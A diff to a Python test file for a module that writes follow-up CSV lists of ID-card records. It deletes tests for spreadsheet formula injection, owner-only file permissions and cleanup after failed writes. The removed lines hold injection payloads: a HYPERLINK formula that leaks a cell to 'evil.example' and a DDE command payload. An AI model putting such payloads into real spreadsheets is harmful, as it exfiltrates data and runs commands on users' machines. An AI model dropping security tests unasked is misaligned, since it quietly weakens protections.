@@ -3,19 +3,12 @@ switch."""
 
 from __future__ import annotations
 
-import csv
 import hashlib
 import re
-import shutil
-import stat
-import uuid
-from pathlib import Path
-from types import SimpleNamespace
 
-import pytest
 from ektp.outputs import followup
-from ektp.outputs.followup import FORMULA_TRIGGERS, Candidates, Query, site_file_name, suggest
-from hypothesis import HealthCheck, given, settings
+from ektp.outputs.followup import Candidates, Query, site_file_name, suggest
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 
@@ -110,101 +103,6 @@ def test_spreadsheet_text_never_starts_a_formula(text):
     assert not cell.startswith(followup.FORMULA_TRIGGERS)
     assert cell in (text, "'" + text)  # only marked, never changed
     assert followup.spreadsheet_text(None) == ""
-
-
-_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
-             "=cmd|' /C calc'!A0", "\uff1d1+1", "-1"]
-_TEXT = st.one_of(st.text(), st.sampled_from(_FORMULAS), st.sampled_from(FORMULA_TRIGGERS).map(lambda c: c + "1+1"))
-
-
-def _row(**values) -> SimpleNamespace:
-    """A row of one of the warehouse's follow-up lists (every column any list has)."""
-    base = dict.fromkeys(["site_code", "site_name", "file_path", "row_number", "line_number", "recorded_at",
-                          "operator_id", "batch_id", "nik", "full_name", "birth_date", "sex", "kelurahan_code",
-                          "kelurahan_code_captured", "first_reason", "reasons", "captured_text", "differs",
-                          "extract_full_name", "extract_birth_date", "extract_sex", "extract_kelurahan_code"])
-    return SimpleNamespace(**{**base, "row_number": 1, "line_number": 2, **values})
-
-
-def _read_cells(folder: Path) -> dict[str, list[list[str]]]:
-    out = {}
-    for f in sorted(folder.iterdir()):
-        with f.open(encoding=followup.CSV_ENCODING, newline="") as fh:
-            out[f.name] = list(csv.reader(fh))
-    return out
-
-
-@given(site=_TEXT, name=_TEXT, who=_TEXT, batch=_TEXT, captured=_TEXT, reasons=_TEXT, nik=_TEXT)
-@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-def test_no_cell_of_a_written_list_starts_a_formula(tmp_path, site, name, who, batch, captured, reasons, nik):
-    """Device text in every free-text column, through the real writer, read back as a spreadsheet reads CSV."""
-    texts = {"site_code": site, "site_name": name, "operator_id": who, "batch_id": batch, "nik": nik,
-             "full_name": name, "kelurahan_code": captured, "first_reason": reasons, "reasons": reasons,
-             "recorded_at": captured, "captured_text": captured, "birth_date": captured, "sex": who,
-             "file_path": f"batches/2027-01-11/{name}.csv"}
-    lists = {"sites": [site], "redo": [_row(**texts)],
-             "identity_mismatch": [_row(**{**texts, "recorded_at": None, "birth_date": None, "differs": reasons,
-                                           "extract_full_name": name, "extract_sex": who,
-                                           "extract_kelurahan_code": captured})],
-             "not_in_extract": [_row(**{**texts, "recorded_at": None, "birth_date": None,
-                                        "kelurahan_code_captured": captured})],
-             "suggestions": {}}
-    folder = tmp_path / f"followup-{uuid.uuid4().hex}" / "2027-01-11"
-    followup._write_csvs(folder, lists)
-    (rows,) = _read_cells(folder).values()
-    assert len(rows) == 4 and rows[0] == followup.CSV_COLUMNS
-    for row in rows:
-        for cell in row:
-            assert not cell.startswith(followup.FORMULA_TRIGGERS), cell
-    redo = dict(zip(rows[0], rows[1], strict=True))
-    shown = {**{c: v for c, v in texts.items() if c in followup.CSV_COLUMNS}, "reason": reasons,
-             "details": f"{reasons}; captured: {captured}"}
-    for column, value in shown.items():  # the value is all there, behind the mark
-        assert redo[column] in (value, "'" + value), column
-    shutil.rmtree(folder.parent)
-
-
-def _lists(sites: list[str]) -> dict:
-    return {"sites": sites, "redo": [_row(site_code=s, nik="3174022308900001", full_name="Budi") for s in sites],
-            "identity_mismatch": [], "not_in_extract": [], "suggestions": {}}
-
-
-def test_lists_of_hostile_site_codes_are_written_owner_only(tmp_path, umask_0):
-    folder = tmp_path / "reports" / "followup" / "2027-01-11"
-    written = followup._write_csvs(folder, _lists(_HOSTILE_CODES))
-    assert sorted(p.name for p in written) == sorted(p.name for p in folder.iterdir())
-    assert len(written) == len(set(_HOSTILE_CODES))
-    for path in written:
-        (_, row) = _read_cells(folder)[path.name][:2]
-        assert site_file_name(row[1].removeprefix("'")) == path.name  # each site's rows in its own file
-    for path in [tmp_path / "reports", folder.parent, folder, *written]:
-        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
-    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]  # no .tmp, no .old
-
-    followup._write_csvs(folder, _lists(["ONLY-ONE"]))  # a republished date replaces the whole folder
-    assert [p.name for p in folder.iterdir()] == ["ONLY-ONE.csv"]
-    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]
-
-
-class _FailingWriter(csv.DictWriter):
-    rows = 0
-
-    def writerow(self, rowdict):
-        type(self).rows += 1
-        if type(self).rows > 3:
-            raise OSError(28, "No space left on device")
-        return super().writerow(rowdict)
-
-
-def test_a_failed_write_leaves_no_folder_with_niks_and_keeps_the_last_lists(tmp_path, monkeypatch):
-    folder = tmp_path / "followup" / "2027-01-11"
-    followup._write_csvs(folder, _lists(["A", "B"]))
-    before = _read_cells(folder)
-    monkeypatch.setattr(followup.csv, "DictWriter", _FailingWriter)  # the disk fills up half way
-    with pytest.raises(OSError, match="No space"):
-        followup._write_csvs(folder, _lists(["A", "B", "C", "D"]))
-    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]
-    assert _read_cells(folder) == before
 
 
 def test_reports_off_skips_everything(tmp_path, monkeypatch):
